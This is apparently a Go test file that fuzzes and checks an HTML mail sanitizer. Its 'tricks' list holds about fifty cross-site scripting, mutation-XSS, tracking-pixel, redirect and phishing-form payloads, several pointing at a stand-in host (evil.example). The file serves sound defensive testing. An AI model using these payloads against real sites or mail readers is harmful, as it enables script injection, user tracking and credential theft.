// SPDX-FileCopyrightText: The hilft authors
// SPDX-License-Identifier: Apache-2.0

package httpapi

import (
	"encoding/json"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"
)

// tricks are ways to make a mail do something in the browser of who reads it.
var tricks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="https://evil.example/pixel.gif?who=rosa" width=1 height=1>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" jAvAsCrIpT:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="&#106;avascript&colon;alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="//evil.example/">x</a>`,
	`<a href="/api/session">x</a>`,
	`<a href="?x" onclick="alert(1)" style="position:fixed;inset:0">x</a>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="https://evil.example/x.swf"></object><embed src="x">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/y)}</style>`,
	`<div style="background:url(https://evil.example/pixel)">x</div>`,
	`<div style="width:expression(alert(1))">x</div>`,
	`<table background="https://evil.example/pixel"><tr><td background="https://evil.example/p2">x</td></tr></table>`,
	`<body onload=alert(1) background="https://evil.example/p">`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<form action="https://evil.example/"><input name=password type=password><button>Anmelden</button></form>`,
	`<video src="https://evil.example/v" poster="https://evil.example/p" autoplay onplay=alert(1)></video>`,
	`<audio src="https://evil.example/a"></audio><source srcset="https://evil.example/s">`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<input autofocus onfocus=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<template><script>alert(1)</script></template>`,
	`<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>`,
	`<textarea></textarea><img src=x onerror=alert(1)></textarea>`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<?php echo 1 ?><img src=x onerror=alert(1)>`,
	"<p>\x00<im\x00g src=x onerror=alert(1)></p>",
	`</body></html><script>alert(1)</script>`,
	`<p dir="rtl" id=x class=y name=z title="&quot; onmouseover=alert(1) x=&quot;">x</p>`,
	`<a href="https://shop.example/?q=1&amp;r=2" target=_top rel=opener ping="https://evil.example">x</a>`,
	strings.Repeat("<div>", 400) + "x",
	strings.Repeat("<table><tr><td>", 90) + `<img src=x onerror=alert(1)>`,
	"\xff\xfe<script>alert(1)</script>",
}

// harmless parses HTML as a browser does and says what in it is not.
func harmless(t *testing.T, source string) (wrong []string) {
	t.Helper()
	root, err := html.ParseWithOptions(strings.NewReader(source), html.ParseOptionEnableScripting(false))
	if err != nil {
		t.Skip("deeper than anybody reads")
	}
	for n := range root.Descendants() {
		if n.Type == html.CommentNode {
			wrong = append(wrong, "a comment: "+n.Data)
		}
		if n.Type != html.ElementNode {
			continue
		}
		if slices.Contains([]string{
			"script", "style", "link", "meta", "base", "iframe", "frame", "object", "embed", "img", "image", "svg", "math", "video", "audio", "source",
			"form", "input", "button", "textarea", "select", "template", "noscript", "xmp", "plaintext", "applet", "portal", "dialog", "picture",
		}, n.Data) || n.Namespace != "" {
			wrong = append(wrong, "<"+n.Data+">")
		}
		for _, a := range n.Attr {
			if !slices.Contains([]string{"href", "rel", "target", "dir", "colspan", "rowspan", "align"}, a.Key) {
				wrong = append(wrong, n.Data+" "+a.Key+"="+a.Val)
			}
			if a.Key != "href" {
				continue
			}
			u, err := url.Parse(a.Val)
			if err != nil || !slices.Contains([]string{"http", "https", "mailto", "tel"}, u.Scheme) || strings.HasPrefix(u.Scheme, "http") && u.Host == "" {
				wrong = append(wrong, "leads to "+a.Val)
			}
		}
	}
	return wrong
}

func TestNothingInAMailRunsOrLoads(t *testing.T) {
	t.Parallel()
	for _, trick := range tricks {
		clean := mailHTML.Sanitize(trick)
		require.Empty(t, harmless(t, clean), trick)
		require.Equal(t, clean, mailHTML.Sanitize(clean), "what is clean stays as it is")
	}
	require.NotEmpty(t, harmless(t, `<p onclick=x>`), "the judge can say no")
	require.NotEmpty(t, harmless(t, `<a href="javascript:x">`))
	// A link says nothing about where it was clicked, and gives nobody a hold on the page.
	link := mailHTML.Sanitize(`<a href="https://shop.example/" target="_top" rel="opener">x</a>`)
	require.Contains(t, link, "noopener")
	require.Contains(t, link, "noreferrer")
	require.Contains(t, link, `target="_blank"`)
	// What helps to read stays.
	const letter = `<h1>Störung</h1><p dir="ltr">Guten <b>Tag</b>,<br>seit <i>gestern</i>…</p><ul><li>eins</li></ul><table><tr><td colspan="2">x</td></tr></table><blockquote>damals</blockquote>`
	require.Equal(t, letter, strings.NewReplacer("<tbody>", "", "</tbody>", "").Replace(mailHTML.Sanitize(letter)))
}

func FuzzNothingInAMailRunsOrLoads(f *testing.F) {
	for _, trick := range tricks {
		if len(trick) < 1000 {
			f.Add(trick)
		}
	}
	f.Fuzz(func(t *testing.T, source string) {
		clean := mailHTML.Sanitize(source)
		require.Empty(t, harmless(t, clean), source)
	})
}

func FuzzSaysNUL(f *testing.F) {
	for _, seed := range []string{`{"a":"\u0000"}`, `{"a":"\\u0000"}`, `{"a":"\\\u0000"}`, `"\`, "\x00", `"\"\u0000"`} {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		var v any
		if err := json.Unmarshal(body, &v); err != nil {
			saysNUL(body)
			return
		}
		require.Equal(t, holdsNUL(v), saysNUL(body), "%q", body)
	})
}

func holdsNUL(v any) bool {
	switch v := v.(type) {
	case string:
		return strings.Contains(v, "\x00")
	case []any:
		return slices.ContainsFunc(v, holdsNUL)
	case map[string]any:
		for k, one := range v {
			if holdsNUL(k) || holdsNUL(one) {
				return true
			}
		}
	}
	return false
}
